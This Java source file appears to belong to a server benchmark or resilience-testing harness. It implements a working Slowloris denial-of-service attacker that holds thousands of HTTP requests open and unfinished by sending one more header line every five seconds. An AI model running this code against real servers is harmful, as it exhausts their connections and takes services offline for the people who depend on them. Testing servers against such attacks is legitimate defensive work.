package dev.parley.bench.attack;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * Many HTTP requests that never end: a request line and a header, then one more header line every
 * few seconds and never the blank line. Non-blocking sockets on one selector thread, so thousands
 * cost the attacker nothing. The attack is cut when the server has closed every one of them.
 */
final class Slowloris extends Attacker {
  private static final long DRIP_MILLIS = 5_000;
  private final InetSocketAddress server;
  private final int connections;
  private final AtomicInteger opened = new AtomicInteger();
  private final AtomicInteger closed = new AtomicInteger();
  private final AtomicInteger refused = new AtomicInteger();

  Slowloris(URI server, int connections) {
    this.server = new InetSocketAddress(server.getHost(), server.getPort());
    this.connections = connections;
  }

  @Override
  String describe() {
    return "slowloris: " + connections + " partial HTTP requests, a header line every 5 s";
  }

  int opened() {
    return opened.get();
  }

  int closed() {
    return closed.get();
  }

  /** Connections the server did not accept at all (or reset before the request went out). */
  int refused() {
    return refused.get();
  }

  @Override
  protected void launch() {
    thread("slowloris", this::run);
  }

  private void run() {
    List<SocketChannel> live = new ArrayList<>();
    ByteBuffer sink = ByteBuffer.allocate(4096);
    try (Selector selector = Selector.open()) {
      for (int i = 0; i < connections && !stopping; i++) {
        try {
          SocketChannel ch = SocketChannel.open();
          ch.configureBlocking(false);
          ch.bind(AttackerAddress.forServer(server.getHostString()));
          ch.connect(server);
          ch.register(selector, SelectionKey.OP_CONNECT);
        } catch (IOException e) {
          refused.incrementAndGet();
        }
      }
      long nextDrip = System.currentTimeMillis() + DRIP_MILLIS;
      while (!stopping) {
        selector.select(250);
        for (SelectionKey key : selector.selectedKeys()) {
          SocketChannel ch = (SocketChannel) key.channel();
          try {
            if (key.isConnectable()) {
              ch.finishConnect();
              ch.write(ascii("GET / HTTP/1.1\r\nHost: " + server.getHostString() + "\r\n"));
              key.interestOps(SelectionKey.OP_READ);
              opened.incrementAndGet();
              sent.incrementAndGet();
              live.add(ch);
            } else if (key.isReadable()) {
              sink.clear();
              if (ch.read(sink) < 0) {
                end(key, ch, live);
              }
            }
          } catch (IOException e) {
            boolean wasOpen = live.contains(ch);
            end(key, ch, live);
            if (!wasOpen) {
              refused.incrementAndGet();
              closed.decrementAndGet();
            }
          }
        }
        selector.selectedKeys().clear();
        if (System.currentTimeMillis() >= nextDrip) {
          nextDrip += DRIP_MILLIS;
          for (SocketChannel ch : List.copyOf(live)) {
            try {
              ch.write(ascii("X-Slow: " + System.nanoTime() + "\r\n"));
            } catch (IOException e) {
              end(ch.keyFor(selector), ch, live);
            }
          }
        }
        if (opened.get() + refused.get() >= connections && live.isEmpty()) {
          closedByServer();
        }
      }
      for (SocketChannel ch : live) {
        ch.close();
      }
    } catch (IOException e) {
      throw new IllegalStateException("slowloris selector failed", e);
    }
  }

  private void end(SelectionKey key, SocketChannel ch, List<SocketChannel> live) {
    if (key != null) {
      key.cancel();
    }
    try {
      ch.close();
    } catch (IOException ignored) {
      // closing anyway
    }
    live.remove(ch);
    closed.incrementAndGet();
  }

  private static ByteBuffer ascii(String s) {
    return ByteBuffer.wrap(s.getBytes(StandardCharsets.US_ASCII));
  }
}
